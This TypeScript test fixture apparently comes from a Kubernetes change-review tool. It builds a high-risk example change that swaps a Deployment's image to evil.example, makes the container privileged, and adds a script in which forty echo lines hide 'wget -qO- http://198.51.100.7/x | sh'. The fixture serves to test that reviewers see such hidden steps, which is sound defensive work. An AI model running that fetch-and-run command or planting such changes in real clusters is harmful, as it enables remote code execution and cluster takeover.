import type { Effect } from '@fairlead/contract/effect/effect'

/** A change with everything on its card that a person must not miss. */
export function graveEffect(namespace: string, name: string): Effect {
  const container = '/spec/template/spec/containers/0'
  const script = [
    '#!/bin/sh',
    ...Array.from({ length: 40 }, (_, step) => `echo step ${step + 1}`),
    'wget -qO- http://198.51.100.7/x | sh',
  ].join('\n')
  const ref = { cluster: 'default', namespace, uid: '6e1c7a52-0b1f-4c9e-8c3b-5f0f0c5b6f10' }
  return {
    summary: `Run another image in container web (Deployment ${namespace}/${name}), privileged, with a script`,
    risk: 'high',
    reasons: [
      'a container becomes privileged',
      'text that would run is hidden',
      'the image comes from another registry',
    ],
    basis: 'server',
    objects: [
      {
        ...ref,
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        name,
        action: 'update',
        changes: [
          { path: `${container}/image`, before: 'registry.example/web:1.14.2', after: 'evil.example/web:1.14.3' },
          { path: `${container}/securityContext/privileged`, after: true },
          { path: `${container}/args/1`, before: 'serve', after: '***(58 bytes, 5a1f0c2b9d3e)' },
          { path: '/spec/template/spec/volumes/0/configMap/name', before: 'web-scripts', after: 'web-scripts-2' },
          { path: '/spec/template/spec/volumes/0/configMap/defaultMode', before: 420, after: 493 },
          { path: '/spec/replicas', before: 2, after: 3 },
          {
            path: '/spec/template/spec/tolerations',
            before: [{ key: 'a' }, { key: 'b' }],
            after: [{ key: 'b' }, { key: 'a' }],
          },
        ],
        elements: { [container]: { name: 'web' }, '/spec/template/spec/volumes/0': { name: 'scripts' } },
        diff: '--- live\n+++ result\n@@ -1,3 +1,3 @@\n spec:\n-  replicas: 2\n+  replicas: 3\n',
      },
      {
        ...ref,
        apiVersion: 'v1',
        kind: 'ConfigMap',
        name: 'web-scripts-2',
        action: 'create',
        changes: [{ path: '', after: { apiVersion: 'v1', kind: 'ConfigMap', data: { 'run.sh': script } } }],
        diff: '--- live\n+++ result\n@@ -0,0 +1,2 @@\n+apiVersion: v1\n+kind: ConfigMap\n',
      },
    ],
    highlights: [
      { object: 0, path: `${container}/image`, fact: 'image evil.example/web:1.14.3' },
      { object: 1, path: '/data/run.sh', fact: script },
      { object: 0, path: `${container}/securityContext/privileged`, fact: 'privileged' },
    ],
    masks: [
      {
        ...{ object: 0, path: `${container}/args/1`, side: 'after', at: 0, bytes: 58 },
        ...{ hash: '5a1f0c2b9d3e', executable: true },
      },
    ],
    generated: [],
    pins: { cluster_uid: 'b0c6' },
    undo: { tool: 'k8s_revert', args: { change: 'call_1' } },
  }
}
